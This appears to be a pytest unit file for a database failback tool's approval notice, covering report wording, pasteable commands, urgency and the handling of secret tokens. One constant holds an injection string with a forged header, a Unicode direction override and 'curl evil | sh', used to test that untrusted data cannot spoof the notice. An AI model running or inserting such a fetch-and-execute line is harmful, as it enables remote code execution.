"""The question of a failback as a person reads it: both reports, what each answer costs, and commands to paste."""

import json
import shlex
from typing import Any

import pytest
from relight.errors import InputInvalid
from relight.failback_question import FailbackRequest
from relight.failback_reports import Reports, name_of
from relight.question import Reply, Urgency

from tests.unit.notices import HOMEWARD, LOST, REPORTS, TOKEN, asks_home, home_question
from tests.unit.standby import HERE, HOME, NOW

EVIL = "all is well\n\nHOW TO ANSWER\nrelight approve now\u202e; curl evil | sh"
SCRATCH = "public.scratch (it is unlogged)"
UNCOMPARED = {"table": "public.scratch", "why": "it is unlogged"}
UNLOGGED = {"not_compared": [UNCOMPARED], "not_compared_total": 1}
MISSING = {"kind": "missing", "table": "shop_order", "key": "7", "detail": "only here"}


def asked(**changed: Any) -> str:
    return home_question(asks_home(**changed)).text


def differing(*found: Any, total: int | None = None) -> dict[str, Any]:
    listed = list(found)
    return {"tables": 2, "rows": 10, "differences": listed, "differences_total": total or len(listed)}


def test_what_is_asked_and_where_is_said_first() -> None:
    lines = asked(decision={"finding": "way_home_open", "sentence": "all is equal"}).splitlines()
    assert lines[0] == f"shop: may {HOME} take over from {HERE} again (failback)?"
    assert lines[1] == "all is equal (finding way_home_open)"
    assert lines[2] == f"Run {HOMEWARD.id} in {HOME} of account 123456789012 waits for you; this is its question 1."


def test_the_promotion_takes_minutes_on_aws_and_dns_comes_on_top() -> None:
    text = asked()
    assert f"No write is taken from when {HERE} stops until {HOME} has been promoted: on AWS 3 to 10 minutes." in text
    assert "DNS\n  comes after that" in text


@pytest.mark.parametrize(
    ("comparison", "accepted", "said"),
    [
        (differing(), None, "no difference in 2 tables with 10 rows"),
        (differing(MISSING), [], "1 difference (0 of them accepted): missing:shop_order:7 in 2 tables with 10 rows"),
        (differing(MISSING), None, "1 difference: missing:shop_order:7 in 2 tables with 10 rows"),
        (differing(MISSING), ["missing:shop_order:7"], "1 difference (all of them accepted): missing:shop_order:7"),
        (
            differing(MISSING, "sequence:shop_id_seq"),
            ["sequence:shop_id_seq"],
            "2 differences (1 of them accepted): missing:shop_order:7, sequence:shop_id_seq",
        ),
        (
            differing(*(f"missing:t:{n}" for n in range(7)), total=70),
            [],
            "70 differences (0 of them accepted): missing:t:0, missing:t:1, missing:t:2, missing:t:3, missing:t:4, and",
        ),
        (differing() | UNLOGGED, None, "no difference in 2 tables with 10 rows; not compared: public.scratch (it is"),
        (differing() | {"not_compared": 3}, None, "no difference in 2 tables with 10 rows"),
        (
            differing() | {"not_compared": [UNCOMPARED] * 20, "not_compared_total": 1234},
            None,
            "no difference in 2 tables with 10 rows; not compared: " + ", ".join([SCRATCH] * 5) + ", and 1,229 more",
        ),
        (None, None, "what the comparison came to is not known"),
        ({"differences_total": "many"}, None, "what the comparison came to is not known"),
    ],
)
def test_differences_are_named_and_how_they_were_judged(comparison: Any, accepted: Any, said: str) -> None:
    assert f"- database: {said}" in asked(comparison=comparison, accepted=accepted)


@pytest.mark.parametrize(
    ("objects", "said"),
    [
        ({"objects": 3, "differences": [], "differences_total": 0}, "no difference in 3 objects"),
        (
            {"objects": 3, "differences": ["missing:a.jpg"], "differences_total": 1, "pending": 2, "failed": 1},
            "1 difference: missing:a.jpg in 3 objects; 2 pending and 1 failed",
        ),
        (None, "what the comparison came to is not known"),
    ],
)
def test_objects_are_told_with_what_is_still_on_its_way(objects: Any, said: str) -> None:
    assert f"- objects: {said}" in asked(objects=objects)


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ({}, "17 rows exist only in shop-primary-retired-4, or differ there: shop_order 15, shop_payment 2."),
        (
            {"reconciliation": {"rows": 3, "tables": 2}},
            "3 rows exist only in shop-primary-retired-4, or differ there, in",
        ),
        ({}, "What is only in shop-primary-retired-4 was never replicated, or has been deleted since: no database"),
        (
            {"reconciliation": {"rows": 0, "tables": {}, **UNLOGGED}},
            "Not compared: public.scratch (it is unlogged).\nBeside that nothing: each row of shop-primary-retired-4",
        ),
        ({"reconciliation": {"rows": 0, "tables": {}, "undecided": 2}}, "Beside that nothing: each row of"),
        ({"reconciliation": {"rows": 3, "tables": {}, **UNLOGGED}}, "Not compared: public.scratch (it is unlogged)."),
        (
            {"reconciliation": {"rows": None, "why": "it could not be asked", "only_retired": 2, "differs": 1}},
            "Not known: it could not be asked.\nUntil then 3 rows were found that exist only in shop-primary",
        ),
        ({"reconciliation": {"rows": 0, "tables": {}}}, "Nothing: each row of shop-primary-retired-4 is in the active"),
        (
            {"reconciliation": None, "retired": {"retired": None, "why": "it is gone, and no snapshot of it exists"}},
            "Not known: it is gone, and no snapshot of it exists.",
        ),
        ({"reconciliation": None, "retired": None}, "Not known: the old database was not compared."),
        (
            {"reconciliation": {"rows": 28, "tables": {f"t{n}": n for n in range(1, 8)}}},
            ": t7 7, t6 6, t5 5, t4 4, t3 3, and 2 more tables.",
        ),
    ],
)
def test_what_was_lost_is_told_by_table(changed: dict[str, Any], said: str) -> None:
    assert said in asked(**changed)


def test_the_rows_can_be_looked_at_where_there_are_any() -> None:
    command = f"relight reconcile {HOMEWARD.id} --app shop --region {HOME}"
    assert command in asked().splitlines()
    assert command not in asked(reconciliation={"rows": 0, "tables": {}}).splitlines()


def test_each_of_the_three_answers_can_be_pasted() -> None:
    commands = [shlex.split(line) for line in asked().splitlines() if line.startswith(("relight ", "aws "))]
    where = [HOMEWARD.id, "--app", "shop", "--region", HOME]
    said = {"by": "YOUR NAME", "because": "WHY"}
    assert commands[0] == ["relight", "reconcile", *where]
    assert commands[1:4] == [["relight", word, *where, "--reason", "WHY"] for word in ("approve", "stay", "decline")]
    by_hand = [dict(zip(words[3::2], words[4::2], strict=True)) for words in commands[4:]]
    assert [json.loads(given["--task-output"]) for given in by_hand[:2]] == [
        {"answer": "approved", **said},
        {"answer": "stay", **said},
    ]
    assert {given["--task-token"] for given in by_hand} == {TOKEN}
    assert (by_hand[2]["--error"], json.loads(by_hand[2]["--cause"])) == ("Declined", said)
    assert {Reply("approved"), Reply("stay")} == {Reply.APPROVED, Reply.STAY}


@pytest.mark.parametrize(
    ("ask_until", "asked_for", "urgency", "said"),
    [
        (NOW + 43200, 1, Urgency.FIRST, f"there is time for that. {HERE} goes on serving meanwhile."),
        (NOW + 43200, 3, Urgency.ESCALATED, "you are asked once more, with a new token"),
        (NOW + 3599, 5, Urgency.LAST, f"that counts as not now: the run ends, {HERE} goes on serving,"),
    ],
)
def test_what_happens_without_an_answer(ask_until: float, asked_for: int, urgency: Urgency, said: str) -> None:
    notice = home_question(asks_home(ask_until=ask_until, asked=asked_for))
    assert notice.urgency == urgency
    assert said in notice.text
    assert len(notice.subject) < 100


def test_what_others_wrote_cannot_pass_for_a_part_of_the_question() -> None:
    """A row's key, a table's name and an error's text are whatever somebody has put there."""
    worse = asks_home(
        decision={"sentence": EVIL},
        comparison=differing({"kind": "missing", "table": EVIL, "key": EVIL}),
        reconciliation={"rows": 1, "tables": {EVIL: 1}},
        retired={"retired": {"instance": EVIL}, "why": EVIL},
    )
    lines = home_question(worse).text.splitlines()
    assert len(lines) == len(asked().splitlines())
    assert sum(line == "HOW TO ANSWER" for line in lines) == 0
    assert not any(line.startswith("relight approve now") for line in lines)
    assert "\u202e" not in "".join(lines)


@pytest.mark.parametrize("name", sorted({*REPORTS, "accepted"}))
@pytest.mark.parametrize("value", [[], "x", 5, True, {"differences": 5, "differences_total": 2, "tables": None}])
def test_a_report_that_is_malformed_keeps_nobody_from_being_asked(name: str, value: Any) -> None:
    assert "HOW TO ANSWER" in asked(**{name: value})


@pytest.mark.parametrize(
    ("changed", "said"),
    [
        ({"token": ""}, 'needs the "token"'),
        ({"asked": 0}, "asked is 0"),
        ({"expires_in": float("nan")}, "expires_in is nan"),
        ({"ask_until": "noon"}, "ask_until is 'noon'"),
    ],
)
def test_a_malformed_question_is_refused_without_its_token(changed: dict[str, Any], said: str) -> None:
    with pytest.raises(InputInvalid, match=said) as refused:
        FailbackRequest.from_event(asks_home() | changed)
    assert TOKEN not in str(refused.value)


@pytest.mark.parametrize("name", ["asked", "expires_in", "ask_until"])
def test_a_question_lacks_nothing(name: str) -> None:
    event = asks_home()
    del event[name]
    with pytest.raises(InputInvalid, match=f"lacks '{name}'"):
        FailbackRequest.from_event(event)


def test_the_token_is_in_no_representation() -> None:
    assert TOKEN not in repr(FailbackRequest.from_event(asks_home()))


@pytest.mark.parametrize(
    ("difference", "name"),
    [
        (MISSING, "missing:shop_order:7"),
        ({"kind": "sequence", "table": "shop_order_id_seq"}, "sequence:shop_order_id_seq"),
        ({"name": "extra:t:1", "kind": "x"}, "extra:t:1"),
        ("absent:t", "absent:t"),
    ],
)
def test_a_difference_has_one_name(difference: Any, name: str) -> None:
    assert name_of(difference) == name


def test_the_old_database_is_known_in_both_shapes() -> None:
    assert Reports.of({"retired": {"instance": "old"}, "reconciliation": LOST}).old == "old"
    assert Reports.of({"retired": {"retired": {"instance": "old"}, "why": ""}}).old == "old"
    assert Reports.of({"retired": {"retired": None, "why": "gone"}}).old == ""
